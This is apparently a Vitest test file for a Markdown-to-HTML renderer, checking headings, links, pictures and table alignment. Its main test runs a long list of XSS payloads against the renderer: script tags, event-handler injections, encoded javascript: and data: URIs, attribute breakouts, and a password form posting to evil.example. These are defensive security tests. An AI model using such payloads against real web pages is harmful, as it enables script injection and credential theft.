import { expect, test } from 'vitest'
import { listMarkdownLinks, renderMarkdown } from './markdown.server.ts'

const place = {
  pictures: (src: string) => (src === 'pictures/x.webp' ? { src: '/a"b.webp' } : null),
  headingsFrom: 2,
}
const html = (text: string, more = {}) => renderMarkdown(text, { ...place, ...more })

test('headings begin below the heading of the page', () => {
  expect(html('# A\n## B\n### C')).toBe('<h2>A</h2>\n<h2>B</h2>\n<h3>C</h3>\n')
  expect(html('# A\n###### B', { headingsFrom: 4 })).toBe('<h4>A</h4>\n<h6>B</h6>\n')
})

/** What Markdown may become: these elements, these attributes, links of these kinds. Any other `<` is an escape that failed. */
const ELEMENTS = /^(?:p|h[2-6]|ul|ol|li|a|img|strong|em|s|code|pre|blockquote|table|thead|tbody|tr|th|td|hr|br)$/
const ATTRIBUTES = /^(?:href|title|rel|src|alt|loading|decoding|class|start)$/
const SAFE_HREF = /^(?:\/(?!\/)|#|\?|https?:\/\/|tel:|mailto:|sms:|pictures\/)/i

function unsafePartsOf(made: string): string[] {
  const unsafe: string[] = []
  const rest = made.replace(
    /<\/?([a-z][a-z0-9]*)((?: [a-z]+(?:="[^"<>]*")?)*)>/g,
    (tag, name: string, attributes: string) => {
      if (!ELEMENTS.test(name)) unsafe.push(tag)
      for (const [, attribute, value] of attributes.matchAll(/ ([a-z]+)(?:="([^"]*)")?/g))
        if (!ATTRIBUTES.test(attribute!) || (/^(?:href|src)$/.test(attribute!) && !SAFE_HREF.test(value!)))
          unsafe.push(tag)
      return ''
    },
  )
  return /[<>]/.test(rest) ? [...unsafe, rest] : unsafe
}

test('what is unsafe is known as such, so that the attacks below mean something', () => {
  for (const bad of [
    '<script>alert(1)</script>',
    '<p onclick="alert(1)">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="//evil.example">x</a>',
    '<img src="data:image/svg+xml,x">',
    '<p>a < b',
  ])
    expect(unsafePartsOf(bad), bad).not.toEqual([])
})

test.each([
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mtext><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<form action="https://evil.example"><input name=password></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>@import "//evil.example/x.css"</style>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<p style="position:fixed;inset:0">x</p>',
  '</p></section><script>alert(1)</script>',
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](  javascript:alert(1))',
  '[a](java\tscript:alert(1))',
  '[a](&#106;avascript:alert(1))',
  '[a](&#x6A;&#x61;vascript&colon;alert(1))',
  '[a](javascript&colon;alert(1))',
  '[a](\\javascript:alert(1))',
  '[a](%6aavascript:alert(1))',
  '[a](vbscript:msgbox(1))',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[a](file:///etc/passwd)',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '[a]: javascript:alert(1)\n\n[a]',
  '[a]: <javascript:alert(1)> "x"\n\n[a][a]',
  '[a](https://e.example "" onmouseover=alert(1) x="")',
  '[a](https://e.example \'x"onmouseover="alert(1)\')',
  '[a](https://e.example/"onmouseover="alert(1))',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![x](https://e.example/" onerror="alert(1))',
  '![" onerror="alert(1)](pictures/x.webp)',
  '![<script>alert(1)</script>](pictures/x.webp "<script>")',
  '`<script>alert(1)</script>`',
  '```html"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
  '    <script>alert(1)</script>',
  '| <script>alert(1)</script> |\n|---|\n| [a](javascript:alert(1)) |',
  '# <img src=x onerror=alert(1)>',
  '[<img src=x onerror=alert(1)>](/x)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\u0000<scr\u0000ipt>alert(1)</script>',
  '[a](//evil.example/x)',
  '[a](/\\evil.example)',
])('an attack comes to nothing: %s', (text) => expect(unsafePartsOf(html(text))).toEqual([]))

test('links to other sites, pictures as the place has them', () => {
  expect(html('[a](https://example.com) [b](/x)')).toBe(
    '<p><a href="https://example.com" rel="noopener">a</a> <a href="/x">b</a></p>\n',
  )
  expect(html('![A "yard"](pictures/x.webp)![none](pictures/y.webp)')).toBe(
    '<p><img src="/a&quot;b.webp" alt="A &quot;yard&quot;" loading="lazy" decoding="async"></p>\n',
  )
})

test('every link is found with its line, however it is written', () => {
  const text =
    'a\n\n[b](/b)\n[c]\n\n> - ![d](pictures/d.webp)\n\n<https://e.example>\n\n| f |\n|---|\n| [g](/g) |\n\n[c]: javascript:c\n\n`[h](/h)`'
  expect(listMarkdownLinks(text)).toEqual([
    { kind: 'link', href: '/b', line: 3 },
    { kind: 'link', href: 'javascript:c', line: 3 },
    { kind: 'picture', href: 'pictures/d.webp', line: 6 },
    { kind: 'link', href: 'https://e.example', line: 8 },
    { kind: 'link', href: '/g', line: 12 },
  ])
})

test('cells are aligned by classes, since a page has no style attributes', () => {
  const table = html('| a | b | c | d |\n|---|:--|:-:|--:|\n| 1 | 2 | 3 | 4 |')
  expect(table).not.toContain('style=')
  expect(table).toContain('<td>1</td>\n<td>2</td>\n<td class="cell-center">3</td>\n<td class="cell-right">4</td>')
})
